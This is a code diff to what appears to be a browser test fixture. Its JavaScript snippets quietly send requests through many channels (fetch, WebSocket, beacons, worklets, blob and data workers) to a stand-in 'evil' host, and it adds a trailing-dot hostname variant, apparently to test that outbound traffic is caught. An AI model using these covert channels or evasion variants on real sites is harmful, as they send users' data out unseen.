@@ -5,12 +5,13 @@ from __future__ import annotations
 from tests.web import Web
 
 _WORKER = """
-const who = new URL(location).searchParams.get("who") || "service";
+const who = self.name || new URL(location).searchParams.get("who") || "service";
 const quietly = (what) => { try { what()?.catch?.(() => 0); } catch {} };
 quietly(() => fetch("EVIL/" + who + "-fetch", {mode: "no-cors"}));
 quietly(() => { const asked = new XMLHttpRequest(); asked.open("GET", "EVIL/" + who + "-xhr"); asked.send(); });
 quietly(() => { new EventSource("EVIL/" + who + "-events"); });
 quietly(() => { new WebSocket("SOCKET/" + who + "-socket"); });
+quietly(() => { new WebSocket("DOTTED/" + who + "-dotted-socket"); });
 quietly(() => importScripts("EVIL/" + who + "-import.js"));
 const inner = `fetch("EVIL/${who}-nested", {mode: "no-cors"}); new WebSocket("SOCKET/${who}-nested-socket")`;
 quietly(() => { new Worker(URL.createObjectURL(new Blob([inner]))); });
@@ -23,6 +24,9 @@ _UNSEEN = """<script type="speculationrules">{"prefetch": [{"source": "list", "u
 <script>
 const quietly = (what) => { try { what()?.catch?.(() => 0); } catch {} };
 quietly(() => { new SharedWorker("GOOD/worker.js?who=shared"); });
+quietly(() => fetch("GOOD/worker.js").then((answer) => answer.text()).then((text) => {
+  new SharedWorker(URL.createObjectURL(new Blob([text])), "blob");
+  new SharedWorker("data:text/javascript," + encodeURIComponent(text), "data"); }));
 quietly(() => navigator.serviceWorker.register("GOOD/service.js"));
 quietly(() => new PaymentRequest([{supportedMethods: "EVIL/pay"}],
                                  {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment());
@@ -56,6 +60,9 @@ quietly(() => { const asked = new XMLHttpRequest(); asked.open("GET", "EVIL/xhr"
 quietly(() => { navigator.sendBeacon("EVIL/beacon", "x"); });
 quietly(() => { new EventSource("EVIL/events"); });
 quietly(() => { new WebSocket("SOCKET/socket"); });
+quietly(() => { new WebSocket("DOTTED/dotted-socket"); });
+quietly(() => CSS.paintWorklet.addModule("EVIL/paint.js"));
+quietly(() => new OfflineAudioContext(1, 100, 44100).audioWorklet.addModule("EVIL/sound.js"));
 quietly(() => import("EVIL/dynamic.js"));
 quietly(() => { new Image().src = "EVIL/script-image.gif"; });
 quietly(() => document.fonts.load("12px x"));
@@ -82,8 +89,6 @@ new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/inner-worker', {mode: 'no-
 
 # What Chrome opens for itself and no session tells of: in a Chrome of ours, its resolver refuses their hosts.
 BESIDE_ALL_SESSIONS = ["/.well-known/web-identity", "/identity.json", "/pay", "/speculation"]
-# A socket of a worker that belongs to no tab, likewise.
-OF_NO_TAB = ["/service-nested-socket", "/service-socket", "/shared-nested-socket", "/shared-socket"]
 
 
 def put_outlets(web: Web) -> str:
@@ -114,4 +119,5 @@ def _put_workers(web: Web) -> None:
 
 def _filled(text: str, web: Web) -> str:
     text = text.replace("EVIL", web.origin("evil")).replace("GOOD", web.origin("good"))
-    return text.replace("OTHER", web.origin("other")).replace("SOCKET", f"ws://evil.localhost:{web.port}")
+    text = text.replace("OTHER", web.origin("other")).replace("DOTTED", f"ws://evil.localhost.:{web.port}")
+    return text.replace("SOCKET", f"ws://evil.localhost:{web.port}")
